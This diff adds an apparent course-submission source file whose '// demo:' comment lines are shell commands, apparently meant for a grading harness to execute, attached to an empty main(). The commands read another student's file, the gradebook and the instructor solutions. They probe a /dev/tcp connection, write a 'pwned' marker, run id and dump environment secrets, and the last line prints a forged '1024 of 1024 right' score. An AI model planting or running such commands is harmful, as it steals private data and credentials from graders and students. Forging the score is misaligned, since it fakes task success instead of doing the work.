@@ -1,0 +1,10 @@
+// demo: echo "A: $(cat /tmp/demo/class/students/ana/day001/saxpy.cu 2>&1 | head -c 80)"
+// demo: echo "GB: $(head -c 40 /tmp/demo/class/.class/gradebook.db 2>&1 | tr -dc 'a-zA-Z :')"
+// demo: echo "LS: $(ls /tmp/demo/class/students 2>&1 | tr '\n' ' ')"
+// demo: echo "SOL: $(head -c 60 /tmp/demo/course/solutions/day001/saxpy.cu 2>&1)"
+// demo: echo "NET: $( (exec 3<>/dev/tcp/127.0.0.1/3917 && echo open) 2>&1 | head -c 80)"
+// demo: echo "W: $( (echo x > /tmp/demo/class/pwned) 2>&1 | head -c 80)"
+// demo: echo "ID: $(id)"
+// demo: echo "ENV: $(env | grep -i -E 'token|key|secret|lessons' | tr '\n' ' ' | head -c 300)"
+// demo: echo "1024 of 1024 right"
+int main() { return 0; }
